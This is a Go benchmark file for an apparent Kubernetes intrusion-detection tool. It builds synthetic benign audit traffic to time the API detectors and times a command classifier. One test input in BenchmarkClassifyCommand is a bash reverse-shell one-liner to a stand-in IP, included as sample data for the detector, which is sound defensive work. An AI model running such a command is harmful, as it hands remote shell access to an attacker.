package detect

import (
	"fmt"
	"math/rand/v2"
	"testing"
	"time"

	"github.com/kubedelta/kubedelta/internal/event"
)

// apiBenignMix returns n benign audit events shaped like a production
// cluster's: mostly lease renewals, watches and gets by the control plane,
// kubelets and kube-system controllers, then operators' service accounts,
// a few people with kubectl, anonymous health probes and discovery. Each
// identity keeps its own client and address, as in real clusters.
func apiBenignMix(n int) []*event.APIRequest {
	rng := rand.New(rand.NewPCG(7, 11))
	type who struct{ user, agent, ip string }
	var nodes, ctrls, ops []who
	for i := range 20 {
		nodes = append(nodes, who{fmt.Sprintf("system:node:worker-%d", i), "kubelet/v1.37.2 (linux/amd64) kubernetes/abc123", fmt.Sprintf("10.0.0.%d", 10+i)})
	}
	for _, c := range []string{"system:kube-controller-manager", "system:kube-scheduler",
		"system:serviceaccount:kube-system:replicaset-controller", "system:serviceaccount:kube-system:endpointslice-controller",
		"system:serviceaccount:kube-system:coredns", "system:serviceaccount:kube-system:kube-proxy"} {
		ctrls = append(ctrls, who{c, "kube-controller-manager/v1.37.2 (linux/amd64) kubernetes/abc123/leader-election", "10.0.0.2"})
	}
	for i, o := range []string{"cert-manager:cert-manager", "monitoring:prometheus-operator", "monitoring:kube-state-metrics",
		"argocd:argocd-application-controller", "ingress-nginx:ingress-nginx", "shop:cart", "shop:web", "keda:keda-operator"} {
		ops = append(ops, who{"system:serviceaccount:" + o, "operator/v1.2.3 (linux/amd64) kubernetes/$Format", fmt.Sprintf("10.244.%d.%d", i, 10+i)})
	}
	people := []who{{"alice", "kubectl/v1.32.4 (linux/amd64) kubernetes/4cb5f07", "192.0.2.10"}, {"bob", "kubectl/v1.33.0 (darwin/arm64) kubernetes/1d2e3f4", "192.0.2.11"}}
	nss := []string{"shop", "monitoring", "argocd", "ingress-nginx", "cert-manager", "default"}
	res := []string{"pods", "configmaps", "services", "endpoints", "secrets", "nodes"}

	out := make([]*event.APIRequest, 0, n)
	for i := range n {
		at := -24*time.Hour + time.Duration(i)*time.Millisecond
		var w who
		var verb, uri string
		code := 200
		switch p := rng.IntN(100); {
		case p < 30: // lease renewals (leader election, node heartbeats)
			switch rng.IntN(3) {
			case 0:
				w = nodes[rng.IntN(len(nodes))]
				verb, uri = "update", "/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/"+w.user[len("system:node:"):]
			case 1:
				w = ctrls[rng.IntN(2)]
				verb, uri = "update", "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/"+w.user[len("system:"):]
			default:
				w = ops[rng.IntN(len(ops))]
				verb, uri = "get", "/apis/coordination.k8s.io/v1/namespaces/"+nss[rng.IntN(len(nss))]+"/leases/operator-lock"
			}
		case p < 55: // informer watches (only controllers watch every secret)
			k := rng.IntN(3)
			w = []who{nodes[rng.IntN(len(nodes))], ctrls[rng.IntN(len(ctrls))], ops[rng.IntN(len(ops))]}[k]
			rs := res[rng.IntN(len(res))]
			if rs == "secrets" && k != 1 {
				rs = "configmaps"
			}
			verb, uri = "watch", "/api/v1/"+rs+"?watch=true&resourceVersion=123"
		case p < 70: // kubelets read their pods' objects and report status
			w = nodes[rng.IntN(len(nodes))]
			if rng.IntN(2) == 0 {
				verb, uri = "get", "/api/v1/namespaces/"+nss[rng.IntN(len(nss))]+"/configmaps/kube-root-ca.crt"
			} else {
				verb, uri = "patch", "/api/v1/namespaces/"+nss[rng.IntN(len(nss))]+"/pods/p-"+fmt.Sprint(rng.IntN(50))+"/status"
			}
		case p < 82: // operators list and update what they own
			w = ops[rng.IntN(len(ops))]
			verbs := []string{"get", "list", "update", "patch"}
			verb = verbs[rng.IntN(len(verbs))]
			uri = "/apis/apps/v1/namespaces/" + nss[rng.IntN(len(nss))] + "/deployments"
			if verb != "list" {
				uri += "/d-" + fmt.Sprint(rng.IntN(10))
			}
		case p < 88: // events
			w = []who{nodes[rng.IntN(len(nodes))], ctrls[rng.IntN(len(ctrls))]}[rng.IntN(2)]
			verb, uri, code = "create", "/api/v1/namespaces/"+nss[rng.IntN(len(nss))]+"/events", 201
		case p < 93: // people
			w = people[rng.IntN(len(people))]
			verb, uri = "get", "/api/v1/namespaces/"+nss[rng.IntN(len(nss))]+"/pods/p-"+fmt.Sprint(rng.IntN(50))
		case p < 97: // kubelet and load-balancer health probes
			w = who{"system:anonymous", "kube-probe/1.37", "10.0.0.1"}
			verb, uri = "get", []string{"/livez", "/readyz", "/healthz"}[rng.IntN(3)]
		default: // discovery
			w = []who{people[rng.IntN(len(people))], ops[rng.IntN(len(ops))]}[rng.IntN(2)]
			verb, uri = "get", []string{"/api", "/apis", "/version"}[rng.IntN(3)]
		}
		r := apiReq(w.user, verb, uri, code, at)
		r.UserAgent, r.SourceIPs = w.agent, []string{w.ip}
		out = append(out, r)
	}
	return out
}

// BenchmarkAPIDetectors runs every API detector over 100k benign audit
// events against a baseline learned from the same traffic (so the novelty
// rules do their lookups), as the analyze pipeline does. The pipeline's
// budget is 300,000 events/s per core with every detector on; these
// detectors' share is the ns/event figure.
func BenchmarkAPIDetectors(b *testing.B) {
	events := apiBenignMix(100_000)
	s := apiState()
	apiLearn(s, events...)
	// Replay a day later: everything is known, learning and warm-up over.
	for _, r := range events {
		r.Time = r.Time.Add(24 * time.Hour)
	}
	var apiDs []APIDetector
	for _, d := range APIDetectors(APIOptions{}) {
		apiDs = append(apiDs, d.(APIDetector))
	}
	alerts := map[string]int{}
	emit := func(a Alert) { alerts[a.Rule]++ }
	b.Run("copy-only", func(b *testing.B) { apiBenchDetectors(b, s, events, nil, emit) })
	b.Run("all", func(b *testing.B) { apiBenchDetectors(b, s, events, apiDs, emit) })
	for _, d := range apiDs {
		b.Run(d.Rules()[0].ID, func(b *testing.B) { apiBenchDetectors(b, s, events, []APIDetector{d}, emit) })
	}
	if len(alerts) != 0 {
		b.Fatalf("benign traffic raised alerts: %v", alerts)
	}
}

// apiBenchDetectors copies each event into one reused value, as the audit
// decoder hands them over (hot in cache), and runs the detectors on it.
// The "copy-only" sub-benchmark is that floor.
func apiBenchDetectors(b *testing.B, s *State, events []*event.APIRequest, ds []APIDetector, emit Emit) {
	b.ReportAllocs()
	var hot event.APIRequest
	cpu0, cpuOK := apiProcessCPU()
	for b.Loop() {
		for _, r := range events {
			hot = *r
			for _, d := range ds {
				d.API(s, &hot, emit)
			}
		}
	}
	n := float64(b.N * len(events))
	perEvent := float64(b.Elapsed().Nanoseconds()) / n
	b.ReportMetric(perEvent, "ns/event")
	b.ReportMetric(1e9/perEvent, "events/s")
	if cpu1, ok := apiProcessCPU(); ok && cpuOK {
		// CPU time, not wall time: stable on a shared machine.
		cpuPer := float64((cpu1 - cpu0).Nanoseconds()) / n
		b.ReportMetric(cpuPer, "cpu-ns/event")
		b.ReportMetric(1e9/cpuPer, "events/cpu-s")
	}
}

// BenchmarkClassifyCommand measures the classifier on a mix of process
// command lines (the ExecDetector path).
func BenchmarkClassifyCommand(b *testing.B) {
	argvs := [][]string{
		{"/bin/sh", "-c", "exec nginx -g 'daemon off;'"},
		{"/usr/bin/curl", "-sf", "http://localhost:8080/healthz"},
		{"/usr/local/bin/python3", "/app/worker.py", "--queue", "orders"},
		{"/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"},
	}
	b.ReportAllocs()
	n := 0
	for b.Loop() {
		for _, a := range argvs {
			n += len(ClassifyCommand(a))
		}
	}
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N*len(argvs)), "ns/command")
	if n == 0 {
		b.Fatal("no matches")
	}
}
